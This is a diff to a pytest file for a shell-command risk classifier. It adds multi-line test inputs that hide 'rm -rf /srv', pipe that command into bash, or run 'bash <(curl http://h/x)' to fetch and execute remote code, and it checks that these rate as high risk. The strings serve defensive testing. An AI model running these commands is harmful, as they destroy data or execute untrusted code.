@@ -17,6 +17,10 @@ GRAVE = (
     "! function f { rm -rf /srv; }; f",
     "coproc JOB { rm -rf /srv; }",
     "time for i in 1 2; do rm -rf /srv; done",
+    "echo 'a\nb'\na | b | sort\nrm -rf /srv > log",
+    "echo 'a\nb'\na | b | sort\nx=1 rm -rf /srv > log",
+    "echo 'a\nb'\necho 'rm -rf /srv' | cat | bash\nls > log",
+    "if a; then\na | b | sort\nbash <(curl http://h/x) > log\nfi",
 )
 MILD = (
     "gr\\\nep -rn x src",
@@ -24,12 +28,19 @@ MILD = (
     "! grep -q x file > log",
     "coproc JOB { cat; }",
     "time ( ls )",
+    "echo 'a\nb'\na | b | sort\nls rm -rf /srv > log",
+    "echo 'a\nb'\na | b | sort \\\n  rm -rf /srv > log",
 )
 
 
 @pytest.mark.parametrize("text", GRAVE)
 def test_what_runs_counts(text: str) -> None:
     assert level(text) >= RiskLevel.HIGH
+
+
+@pytest.mark.parametrize("text", [one for one in GRAVE if "<<" not in one])
+def test_what_runs_counts_between_other_lines(text: str) -> None:
+    assert level(f"ls -la\n{text}\nls") >= RiskLevel.HIGH
 
 
 @pytest.mark.parametrize("text", MILD)
